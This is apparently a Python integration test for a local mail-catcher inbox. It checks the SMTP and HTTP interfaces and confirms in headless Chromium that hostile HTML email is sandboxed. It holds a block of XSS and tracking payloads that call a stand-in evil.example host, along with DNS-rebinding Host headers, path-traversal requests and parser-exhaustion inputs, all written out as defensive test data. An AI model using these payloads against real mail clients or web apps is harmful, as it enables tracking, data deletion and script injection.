#!/usr/bin/env python3
"""The inbox with real programs: smtplib and swaks send, curl asks, headless Chromium looks at it.

    inbox_test.py [--pictures FOLDER]

Exit status: 0, 1 when something is wrong, 77 (skip) without the tools. With NO_SKIP=1 in the environment that fails
instead. CXX is the compiler.
"""

import email.message
import http.server
import json
import math
import os
import pathlib
import re
import shutil
import smtplib
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time
import urllib.parse
import zlib

HERE = pathlib.Path(__file__).resolve().parent
TOP = HERE.parent.parent
sys.path.insert(0, str(HERE.parent / 'study'))
import browser



def make_picture():
    """A PNG: a ring with a dot."""
    def chunk(kind, data):
        return struct.pack('>I', len(data)) + kind + data + struct.pack('>I', zlib.crc32(kind + data))

    lines = b''.join(b'\0' + b''.join(b'\x7a\x4a\x2b' if (d := math.hypot(x - 19.5, y - 19.5)) < 19 and not 8 < d < 12 else b'\xff' * 3
                                     for x in range(40)) for y in range(40))
    return (b'\x89PNG\r\n\x1a\n' + chunk(b'IHDR', struct.pack('>IIBBBBB', 40, 40, 8, 2, 0, 0, 0)) +
            chunk(b'IDAT', zlib.compress(lines)) + chunk(b'IEND', b''))


PICTURE = make_picture()
failures = []


def check(true, what):
    if not true:
        failures.append(what)
        print('FAILED: ' + what, flush=True)
    return true


def soon(what, question, patience=10):
    """Asks until there is a yes."""
    end = time.monotonic() + patience
    while True:
        answer = question()
        if answer or time.monotonic() > end:
            return check(answer, what)
        time.sleep(0.02)


class Tracker:
    """The rest of the world: it keeps what it is asked for, and each connection."""

    def __init__(self):
        self.seen = seen = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def setup(self):
                seen.append('a connection')
                super().setup()

            def do_GET(self):
                seen.append(self.path)
                self.send_response(200)
                self.send_header('Content-Type', 'text/html')
                self.send_header('Content-Length', '0')
                self.end_headers()

            do_POST = do_GET

            def log_message(self, *_):
                pass

        self.server = http.server.ThreadingHTTPServer(('127.0.0.1', 0), Handler)
        self.port = self.server.server_port
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


class Inbox:
    def __init__(self, program, keep=100):
        self.process = subprocess.Popen([program, '0', '0', str(keep)], stdout=subprocess.PIPE)
        line = self.process.stdout.readline().decode()
        found = re.fullmatch(r'mail to 127\.0\.0\.1:(\d+), look at (http://127\.0\.0\.1:(\d+)/)\n', line)
        self.port, self.url, self.web = int(found[1]), found[2], int(found[3])

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.process.kill()
        self.process.wait()
        self.process.stdout.close()

    def send(self, message, mailfrom='me@example.com', to=('you@example.com',)):
        data = message if isinstance(message, bytes) else message.as_bytes()
        with smtplib.SMTP('127.0.0.1', self.port, local_hostname='client') as client:
            client.sendmail(mailfrom, to, data)

    def curl(self, path, *options):
        """Status, header fields, body."""
        it = subprocess.run(['curl', '-sS', '-i', '--path-as-is', '--max-time', '40', '--noproxy', '*', *options,
                             self.url.rstrip('/') + path], stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
        head, _, body = it.stdout.partition(b'\r\n\r\n')
        lines = head.decode('latin-1').split('\r\n')
        status = re.match(r'HTTP/1\.1 (\d+)', lines[0])
        return (int(status[1]) if status else lines[0],
                {name.lower(): value for name, _, value in (line.partition(': ') for line in lines[1:])}, body)

    def list(self, query=''):
        return json.loads(self.curl('/messages' + query)[2])

    def raw(self, request):
        with socket.create_connection(('127.0.0.1', self.web), 10) as sock:
            try:
                sock.sendall(request)
                return b''.join(iter(lambda: sock.recv(65536), b''))
            except ConnectionResetError:
                return b'reset'


def letter(subject, text='Hello\n', sender='"Ann, of Sales" <ann@example.com>', **headers):
    it = email.message.EmailMessage()
    it['From'], it['To'], it['Subject'] = sender, 'You <you@example.com>', subject
    for name, value in headers.items():
        it[name.replace('_', '-')] = value
    it.set_content(text)
    return it


def newsletter():
    it = letter('Grüße aus Köln – Ihre Bestellung №\u00a042 ☕', sender='Café Müller <info@cafe.example>', text=
                'Guten Tag,\n\nIhre Bestellung ist unterwegs: 2 × Röstkaffee, 1 × Filter.\nSumme: 23,80 €\n\nViele Grüße\nCafé Müller\n')
    it.add_alternative('''<html><body style="font-family: Georgia, serif; color: #333; max-width: 560px; margin: 24px auto">
<table width="100%"><tr><td><h1 style="color: #7a4a2b; margin: 0">Café Müller</h1></td><td align="right"><img src="cid:logo@cafe"
alt="logo" width="40"></td></tr></table><hr style="border: 0; border-top: 2px solid #7a4a2b"><p>Guten Tag,</p><p>Ihre Bestellung
ist unterwegs:</p><table cellpadding="8" style="border-collapse: collapse; width: 100%"><tr style="background: #f4ece4"><td>2 ×
Röstkaffee</td><td align="right">19,80 €</td></tr><tr><td>1 × Filter</td><td align="right">4,00 €</td></tr><tr style="background:
#f4ece4"><td><b>Summe</b></td><td align="right"><b>23,80 €</b></td></tr></table><p><a href="http://evil.example/clicked"
style="background: #7a4a2b; color: white; padding: 10px 18px; border-radius: 6px; text-decoration: none; display: inline-block">
Sendung verfolgen</a></p><p>Viele Grüße</p></body></html>''', subtype='html')
    it.get_payload()[1].add_related(PICTURE, 'image', 'png', cid='<logo@cafe>')
    it.add_attachment(b'%PDF-1.4\n' + bytes(range(256)) * 40, maintype='application', subtype='pdf', filename='Rechnung Nº 42 "für Sie".pdf')
    it.add_attachment('a;b\n1;2\n', subtype='csv', filename='positions.csv')
    return it


NASTY = '''<!doctype html><html><head><meta http-equiv="refresh" content="0; url=http://evil.example/refresh">
<base href="http://evil.example/base/"><title>x</title><link rel="stylesheet" href="http://evil.example/style.css">
<link rel="preload" as="image" href="http://evil.example/preload.png"><link rel="prefetch" href="http://evil.example/prefetch">
<link rel="preconnect" href="http://evil.example"><link rel="icon" href="http://evil.example/icon.png">
<link rel="manifest" href="http://evil.example/manifest"><link rel="modulepreload" href="http://evil.example/module.js">
<script>parent.document.title = 'owned'; top.location = 'http://evil.example/top'</script><script src="http://evil.example/script.js"></script>
<style>@import "http://evil.example/import.css"; @font-face { font-family: x; src: url(http://evil.example/font) }
body { background: url(http://evil.example/background.png); font-family: x }</style></head>
<body onload="fetch('http://evil.example/onload')"><h1>Nasty</h1><img src="http://evil.example/image.png">
<img src="x" onerror="parent.document.title='owned'; fetch('/messages', {method: 'DELETE'}); new Image().src='http://evil.example/onerror'">
<svg onload="parent.document.title='owned'"><image href="http://evil.example/svg.png"/></svg>
<iframe src="http://evil.example/frame"></iframe><iframe srcdoc="<script>top.document.title='owned'</script>"></iframe>
<iframe srcdoc="&lt;link rel=preconnect href=http://evil.example>&lt;img src=http://evil.example/srcdoc.png>"></iframe>
<LINK REL="preconnect" HREF="//evil.example"><object data="http://evil.example/object"></object><embed src="http://evil.example/embed"><video src="http://evil.example/video"
poster="http://evil.example/poster" autoplay></video><audio src="http://evil.example/audio" autoplay></audio>
<input type="image" src="http://evil.example/input.png"><table background="http://evil.example/table.png"><tr><td>x</td></tr></table>
<a id="script" href="javascript:top.document.title='owned'">script</a><a id="top" target="_top" href="http://evil.example/target">top</a>
<form id="form" action="http://evil.example/form" method="post"><button id="submit">send</button></form>
<form action="/messages" method="post"><button>send</button></form></body></html>'''


def test_http(inbox):
    first = inbox.list()
    check(first['messages'] == [], 'there is nothing at first: %s' % first)
    inbox.send(newsletter(), to=['you@example.com', 'they@example.com'])
    now = inbox.list()
    check(now['version'] > first['version'], 'mail makes a new version')
    mail = now['messages'][0]
    check(mail['subject'] == 'Grüße aus Köln – Ihre Bestellung №\u00a042 ☕', 'the subject: %r' % mail['subject'])
    check(mail['from'] == 'Café Müller <info@cafe.example>' and mail['mailfrom'] == 'me@example.com' and mail['html'] is True and
          mail['rcpttos'] == ['you@example.com', 'they@example.com'], 'sender and recipients: %s' % mail)
    check(abs(mail['time'] - time.time()) < 60, 'its time')
    check([(it['type'], it['name'], it['size']) for it in mail['parts']] ==
          [('image/png', '', len(PICTURE)), ('application/pdf', 'Rechnung Nº 42 "für Sie".pdf', 9 + 256 * 40),
           ('text/csv', 'positions.csv', 8)], 'its attachments: %s' % mail['parts'])
    base = '/messages/%d/' % mail['id']
    status, fields, body = inbox.curl(base + 'parts/%d' % mail['parts'][1]['part'])
    check(status == 200 and body == b'%PDF-1.4\n' + bytes(range(256)) * 40, 'an attachment comes as it was')
    check(urllib.parse.unquote(fields['content-disposition']) == 'attachment; filename*=UTF-8\'\'Rechnung Nº 42 "für Sie".pdf' and '"' not in fields['content-disposition'],
          'under its name: %s' % fields)
    check(fields['x-content-type-options'] == 'nosniff' and fields['content-type'].startswith('application/octet-stream'), 'to be kept')
    status, fields, body = inbox.curl(base + 'text')
    check(status == 200 and body.decode().startswith('Guten Tag,\n\nIhre Bestellung') and '23,80 €' in body.decode(), 'the text: %r' % body)
    check(fields['content-type'] == 'text/plain; charset=utf-8' and fields['x-content-type-options'] == 'nosniff', 'is plain')
    status, fields, body = inbox.curl(base + 'source')
    check(b'Subject: =?utf-8?' in body and fields['content-type'] == 'text/plain; charset=utf-8', 'the source')
    status, fields, body = inbox.curl(base + 'html')
    policy = fields['content-security-policy']
    check("default-src 'none'" in policy and 'sandbox' in policy and 'allow-scripts' not in policy and 'allow-same-origin' not in policy and
          'Röstkaffee' in body.decode(), 'the HTML is for a sandbox: ' + policy)
    check(b'cid:' not in body and b'data:image/png;base64,iVBOR' in body, 'with the picture that came with it')
    for path in ('/messages/999', '/messages/999/text', base + 'parts/77', base + 'parts/-1', base + 'nothing', '/x', '/messages/x/html',
                 '/../../etc/passwd', '/inbox.js/', 'http://127.0.0.1/'):
        status = inbox.curl(path)[0] if path[0] == '/' else int(inbox.raw(
            b'GET %s HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n\r\n' % (path.encode(), inbox.web)).split()[1])
        check(status == 404, 'there is no %s: %s' % (path, status))

    # The answer that waits.
    begin = time.monotonic()
    answers = []
    thread = threading.Thread(target=lambda: answers.append(inbox.list('?not=%d' % now['version'])))
    thread.start()
    time.sleep(0.4)
    check(not answers, 'the list waits for another version')
    swaks = subprocess.run(['swaks', '--server', '127.0.0.1:%d' % inbox.port, '--from', 'swaks@example.com', '--to', 'you@example.com',
                            '--h-Subject', 'from swaks', '--body', 'A second one', '--silent', '3'])
    check(swaks.returncode == 0, 'swaks sends')
    thread.join(10)
    check(answers and answers[0]['messages'][1]['subject'] == 'from swaks' and time.monotonic() - begin < 9, 'and comes with the mail')

    # Who is let in.
    port = inbox.web
    for host in ('evil.example', 'evil.example:%d' % port, 'localhost:%d.evil.example' % port, '127.0.0.1', 'localhost:1', '',
                 '127.0.0.1:%d, evil.example' % port, '127.0.0.1.evil.example:%d' % port, '[::2]:%d' % port, '0.0.0.0:%d' % port):
        for method in ('GET', 'DELETE'):
            status = inbox.curl('/messages', '-X', method, '-H', 'Host: ' + host if host else 'Host;')[0]
            check(status == 421, '%s for Host: %s is refused: %s' % (method, host, status))
    check(b' 421 ' in inbox.raw(b'GET / HTTP/1.0\r\n\r\n'), 'no Host at all')
    check(b' 421 ' in inbox.raw(b'GET / HTTP/1.1\r\nHost: localhost:%d\r\nHost: evil\r\n\r\n' % port), 'two of them')
    for host in ('localhost', '127.0.0.1', '[::1]'):
        check(inbox.curl('/', '-H', 'Host: %s:%d' % (host, port))[0] == 200, 'the host may be ' + host)
    for field in ('Origin: http://evil.example', 'Origin: null', 'Origin: http://127.0.0.1:%d' % (port + 1), 'Sec-Fetch-Site: cross-site',
                  'Sec-Fetch-Site: same-site', 'Origin: http://localhost:%d' % port):
        check(inbox.curl('/messages', '-X', 'DELETE', '-H', field)[0] == 403, 'nothing is deleted for ' + field)
        check(inbox.curl('/messages', '-H', field)[0] == 403, 'nothing is told for ' + field)
    check(inbox.curl('/', '-H', 'Sec-Fetch-Site: cross-site')[0] == 200, 'a link leads to the page')
    for method in ('POST', 'PUT', 'HEAD', 'OPTIONS', 'TRACE', 'NONSENSE'):
        status, fields, _ = inbox.curl('/messages/1', *(('-I',) if method == 'HEAD' else ('-X', method)))
        check(status == 405 and fields['allow'] == 'GET, DELETE' and 'access-control-allow-origin' not in fields,
              '%s is none of its methods: %s' % (method, status))
    check(len(inbox.list()['messages']) == 2, 'and all is still there')
    host = b'Host: 127.0.0.1:%d\r\n' % port
    check(b' 413 ' in inbox.raw(b'DELETE /messages HTTP/1.1\r\n' + host + b'Content-Length: 5\r\n\r\nhello'), 'no body')
    check(b' 413 ' in inbox.raw(b'DELETE /messages HTTP/1.1\r\n' + host + b'Transfer-Encoding: chunked\r\n\r\n'), 'of no kind')
    long = inbox.raw(b'GET / HTTP/1.1\r\n' + host + b'X: ' + b'x' * 17000 + b'\r\n\r\n')
    check(b' 431 ' in long and long.count(b'HTTP/1.1') == 1, 'a header has its end: %r' % long[:100])
    check(inbox.raw(b'x' * 10000000)[:12] in (b'HTTP/1.1 431', b'reset'), 'so has what has none')
    check(b'\r\nHTTP' not in inbox.raw(b'\r\n\r\n') and b' 421 ' in inbox.raw(b'\xff\x00\x01\r\n:\r\n\r\n'), 'nonsense')
    both = inbox.raw(b'GET /messages HTTP/1.1\r\n' + host + b'\r\nGET /inbox.css HTTP/1.1\r\n' + host + b'Connection: close\r\n\r\n')
    check(both.count(b'HTTP/1.1 200 OK') == 2 and both.index(b'json') < both.index(b'text/css'), 'two requests in one packet')
    waiters = [socket.create_connection(('127.0.0.1', port)) for _ in range(5)]
    for sock in waiters:
        sock.sendall(b'GET /messages?not=%d HTTP/1.1\r\n%s\r\n' % (inbox.list()['version'], host))
    time.sleep(0.2)
    for sock in waiters[:3]:
        sock.close()
    check(inbox.curl('/messages/%d' % mail['id'], '-X', 'DELETE')[0] == 200, 'DELETE')
    for sock in waiters[3:]:
        check(b'from swaks' in sock.recv(65536), 'those who wait learn of it')
        sock.close()
    check([it['subject'] for it in inbox.list()['messages']] == ['from swaks'], 'it is gone')
    check(inbox.curl('/messages', '-X', 'DELETE')[0] == 200 and inbox.list()['messages'] == [], 'DELETE of all')


def test_limits(program):
    with Inbox(program, 3) as inbox:
        for number in range(5):
            inbox.send(b'Subject: %d\n\nx' % number)
        check([it['subject'] for it in inbox.list()['messages']] == ['2', '3', '4'], 'the last three are kept')
        # Bytes of all kinds, and what takes long when it is done badly.
        deep = b''.join(b'Content-Type: multipart/mixed; boundary=b%d\n\n--b%d\n' % (n, n) for n in range(2000)) + b'\nx'
        many = b'Content-Type: multipart/mixed; boundary=b\n\n' + b'--b\n\n\n' * 200000
        words = b'Subject: ' + b'=?a?q? ' * 200000 + b'\n\n'
        colons = b':\n' * 1000000 + b'\n'
        pictures = (b'Content-Type: multipart/related; boundary=b\n\n--b\nContent-Type: text/html\n\n' + b'<img src="cid:a">' * 20000 +
                    b'\n--b\nContent-Type: image/png\nContent-ID: <a>\nContent-Transfer-Encoding: base64\n\n' + b'A' * 1000000 + b'\n--b--\n')
        spaces = b'Content-Transfer-Encoding: quoted-printable\n\n' + (b' ' * 1000000 + b'= ') * 5
        for what, data in (('spaces', spaces), ('bytes', bytes(range(256)) * 50), ('deep', deep), ('many', many), ('words', words), ('colons', colons),
                           ('pictures', pictures)):
            begin = time.monotonic()
            inbox.send(data.replace(b'\r', b'').replace(b'\n', b'\r\n'))
            mail = inbox.list()['messages'][-1]
            for path in ('text', 'source') + (('html',) if mail['html'] else ()):
                status, _, body = inbox.curl('/messages/%d/%s' % (mail['id'], path))
                check(status == 200 and len(body) < 50 << 20, '%s: %s: %s, %d bytes' % (what, path, status, len(body)))
                if path != 'source':
                    body.decode()
            check(time.monotonic() - begin < 20, '%s took %.1f s' % (what, time.monotonic() - begin))
        status = pathlib.Path('/proc/%d/status' % inbox.process.pid)
        if status.exists():
            peak = int(re.search(r'VmHWM:\s*(\d+)', status.read_text())[1]) // 1024
            check(peak < 500, 'it took %d MiB' % peak)


ROWS = "return [...document.querySelectorAll('#list a')].map(it => it.querySelector('i').textContent)"
NONE = "return document.querySelector('#pane').textContent"


def inside(page, script, *args):
    """Runs it in the frame with the message."""
    frame = page.call('POST', '/element', {'using': 'css selector', 'value': 'iframe#body'})
    page.call('POST', '/frame', {'id': frame})
    try:
        return page.run(script, *args)
    finally:
        page.call('POST', '/frame', {'id': None})


def test_tracker(page, tracker):
    """Otherwise it would prove nothing that the inbox loads nothing. In a browser of its own, which keeps connections."""
    with tempfile.TemporaryDirectory() as folder:
        plain = pathlib.Path(folder) / 'nasty.html'
        plain.write_text(NASTY.replace('http-equiv="refresh"', '').replace('top.location', 'let unused'))
        page.open(plain.as_uri())
        soon('without protection it loads a lot', lambda: len(set(tracker.seen)) > 10)
        soon('and runs', lambda: '/onerror' in tracker.seen and '/onload' in tracker.seen)
        check(page.run("return document.title") == 'owned', 'and writes')


def test_page(inbox, page, tracker, pictures):
    def picture(name):
        if pictures:
            time.sleep(1.7)   # what has just come is lit for a while
            page.picture(str(pictures / (name + '.png')))

    def click_text(text):
        page.run("[...document.querySelectorAll('#pane button')].find(it => it.textContent === arguments[0]).click()", text)

    page.open(inbox.url)
    soon('the empty inbox says so', lambda: page.run("return !document.querySelector('#empty').hidden"))
    picture('empty')
    inbox.send(letter('Your password', 'Hello,\n\nthe code is 123456. It is good for ten minutes.\n\n-- \nThe shop\n',
                      sender='The Shop <shop@example.com>'))
    soon('a message appears by itself', lambda: page.run(ROWS) == ['Your password'])
    check(page.run("return document.title") == '(1) Inbox', 'the title tells of it')
    inbox.send(newsletter())
    inbox.send(letter('<img src=x onerror="document.title=\'owned\'"><b>bold</b>', '<script>document.title="owned"</script>\n',
                      sender='"<i>x</i>" <i@example.com>'))
    inbox.send(letter('Build 1742 failed: tests/core, 3 of 812', 'tests/core: 3 failures\n', sender='ci@example.com'))
    soon('and three more, the last one first', lambda: page.run(ROWS) == [
        'Build 1742 failed: tests/core, 3 of 812', '<img src=x onerror="document.title=\'owned\'"><b>bold</b>',
        'Grüße aus Köln – Ihre Bestellung №\u00a042 ☕', 'Your password'])
    picture('list')
    page.click('#list a:nth-child(4)')
    soon('a message opens', lambda: 'the code is 123456' in page.run(NONE))
    check(page.run("return document.title") == '(3) Inbox', 'and is read')
    picture('message')
    page.click('#list a:nth-child(3)')
    soon('HTML shows', lambda: page.run("return !!document.querySelector('iframe#body')") and
         'Röstkaffee' in inside(page, 'return document.body.textContent'))
    soon('with its picture', lambda: inside(page, "return document.querySelector('img').complete"))
    check(inside(page, "return document.querySelector('img').naturalWidth") == 40, 'which is one')
    picture('html')
    click_text('Text')
    soon('its text too', lambda: 'Summe: 23,80 €' in page.run(NONE))
    click_text('Source')
    soon('and its source', lambda: 'Content-Type: multipart/mixed' in page.run(NONE))
    picture('source')
    check(page.run("return [...document.querySelectorAll('#pane a[download]')].map(it => it.textContent)")[1] ==
          'Rechnung Nº 42 "für Sie".pdf 10.2 kB', 'its attachments')
    page.click('#list a:nth-child(2)')
    soon('text with tags', lambda: '<script>' in page.run(NONE))
    check(page.run("return document.title") == '(1) Inbox' and page.run("return document.querySelectorAll('nav img, main img, main h2 *').length") == 0,
          'is text')
    console = page.console()
    check(not console, 'the console is silent: %s' % console[:3])

    page.cdp('Emulation.setEmulatedMedia', {'features': [{'name': 'prefers-color-scheme', 'value': 'dark'}]})
    ground = page.run("return getComputedStyle(document.body).backgroundColor")
    check(max(map(int, re.findall(r'\d+', ground)[:3])) < 60, 'dark where the system is: ' + ground)
    picture('dark')
    page.click('#list a:nth-child(3)')
    soon('HTML in the dark', lambda: page.run("return !!document.querySelector('iframe#body')"))
    picture('dark-html')
    page.size(400, 800)
    check(page.run("return document.documentElement.scrollWidth") <= 400, 'narrow: it fits')
    check(page.run("return !document.querySelector('aside').offsetParent && !!document.querySelector('main').offsetParent"), 'the message alone')
    picture('narrow-message')
    page.cdp('Emulation.setEmulatedMedia', {'features': []})
    page.click('#back')
    soon('and back to the list', lambda: page.run("return !!document.querySelector('aside').offsetParent && !document.querySelector('main').offsetParent"))
    picture('narrow-list')
    page.size(1280, 800)

    # What comes from outside, into which nothing of ours may fall.
    page.run("location.hash = ''")
    nasty = letter('Nasty')
    nasty.add_alternative(NASTY, subtype='html')
    inbox.send(nasty)
    soon('it appears', lambda: page.run(ROWS)[:1] == ['Nasty'])
    page.click('#list a:nth-child(1)')
    soon('it opens', lambda: page.run("return !!document.querySelector('iframe#body')") and
         inside(page, "return document.querySelector('h1').textContent") == 'Nasty')
    picture('nasty')
    time.sleep(1)
    check(not tracker.seen, 'nothing is loaded from outside: %s' % tracker.seen)
    before = page.run("return [location.href, history.length]")
    for link in ('#script', '#top', '#submit'):
        frame = page.call('POST', '/element', {'using': 'css selector', 'value': 'iframe#body'})
        page.call('POST', '/frame', {'id': frame})
        page.click(link)
        page.call('POST', '/frame', {'id': None})
    time.sleep(1)
    handles = page.call('GET', '/window/handles')
    for handle in handles[1:]:
        page.call('POST', '/window', {'handle': handle})
        page.call('DELETE', '/window')
    page.call('POST', '/window', {'handle': handles[0]})
    # The browser may connect when a link is pressed, before it is found that the link may lead nowhere.
    check(set(tracker.seen) <= {'a connection'}, 'clicks load nothing in here: %s' % tracker.seen)
    check(page.run("return document.title") == '(1) Inbox' and page.run("return [location.href, history.length]") == before,
          'nothing has run: %s' % page.run("return document.title"))
    check(len(inbox.list()['messages']) == 5, 'nothing is deleted')
    wrong = [it for it in page.console() if not re.search(r'Content Security Policy|sandbox|Not allowed to (load|navigate)|permissions', it['message'])]
    check(not wrong, 'the console tells of what was blocked, and of nothing else: %s' % wrong)
    tracker.seen.clear()
    page.open(inbox.url + 'messages/5/html')
    check(page.run("return [document.title, self.origin]") == ['x', 'null'], 'the same when it is opened by itself')
    time.sleep(0.5)
    check(not tracker.seen and len(inbox.list()['messages']) == 5, 'nothing is loaded then: %s' % tracker.seen)
    page.console()

    # A link leads to a page of its own.
    page.open(inbox.url + '#2')
    soon('a message by its link', lambda: page.run("return !!document.querySelector('iframe#body')") and
         'Röstkaffee' in inside(page, 'return document.body.textContent'))
    frame = page.call('POST', '/element', {'using': 'css selector', 'value': 'iframe#body'})
    page.call('POST', '/frame', {'id': frame})
    page.click('a')
    page.call('POST', '/frame', {'id': None})
    soon('a link opens elsewhere', lambda: '/clicked' in tracker.seen)
    handles = page.call('GET', '/window/handles')
    for handle in handles[1:]:
        page.call('POST', '/window', {'handle': handle})
        page.call('DELETE', '/window')
    page.call('POST', '/window', {'handle': handles[0]})

    # Another site's page, and a name that leads here.
    tracker.seen.clear()
    page.open('http://evil.example/')
    told = page.call('POST', '/execute/async', {'script': '''const [url, done] = arguments, told = [];
        Promise.allSettled([fetch(url + 'messages', {mode: 'no-cors'}), fetch(url + 'messages', {method: 'DELETE'}),
        fetch(url + 'messages', {method: 'POST', mode: 'no-cors', body: 'x'}), fetch(url + 'messages').then(it => it.text())])
        .then(all => done(all.map(it => it.status)))''', 'args': [inbox.url]})
    check(told[1] == told[3] == 'rejected', "another site's page neither deletes nor reads: %s" % told)
    page.open('http://rebound.example:%d/messages' % inbox.web)
    check('421' in page.run("return document.body.textContent"), 'a name that leads here is refused')
    check(len(inbox.list()['messages']) == 5, 'all is there')
    page.console()

    page.open(inbox.url + '#3')
    soon('open', lambda: page.run("return document.querySelectorAll('#delete').length") == 1)
    page.click('#delete')
    soon('delete deletes', lambda: len(page.run(ROWS)) == 4 and len(inbox.list()['messages']) == 4)
    soon('and the next one opens', lambda: page.run("return location.hash") == '#2' and 'Café Müller' in page.run(NONE))
    page.run("window.confirm = () => true")
    page.click('#clear')
    soon('all is deleted', lambda: page.run(ROWS) == [] and page.run("return !document.querySelector('#empty').hidden"))
    console = page.console()
    check(not console, 'the console is silent: %s' % console[:3])


def main():
    cxx = os.environ.get('CXX', 'c++')
    lacking = [it for it in ('curl', 'swaks', cxx.split()[0]) if not shutil.which(it)]
    if not browser.available():
        lacking.append('chromium and chromedriver')
    if lacking:
        print('skipped: there is no ' + ', nor '.join(lacking))
        return 1 if os.environ.get('NO_SKIP') == '1' else 77
    pictures = pathlib.Path(sys.argv[2]) if sys.argv[1:2] == ['--pictures'] else None
    with tempfile.TemporaryDirectory() as folder:
        program = os.environ.get('INBOX') or folder + '/inbox'
        os.path.exists(program) or subprocess.run([*cxx.split(), '-std=c++17', '-O1', '-I', TOP, HERE / 'inbox.cpp', TOP / 'smtpd.cpp', TOP / 'asyncore.cpp', '-o',
                        program], check=True)
        with Inbox(program) as inbox:
            test_http(inbox)
            check(inbox.process.poll() is None, 'it runs on')
        test_limits(program)
        tracker = Tracker()
        hosts = 'MAP evil.example 127.0.0.1:%d, MAP rebound.example 127.0.0.1' % tracker.port
        with browser.Browser(hosts=hosts) as page:
            test_tracker(page, tracker)
        tracker.seen.clear()
        with Inbox(program) as inbox, browser.Browser(1280, 800, hosts=hosts) as page:
            test_page(inbox, page, tracker, pictures)
    print('the inbox: %d failures' % len(failures))
    return 1 if failures else 0


if __name__ == '__main__':
    sys.exit(main())
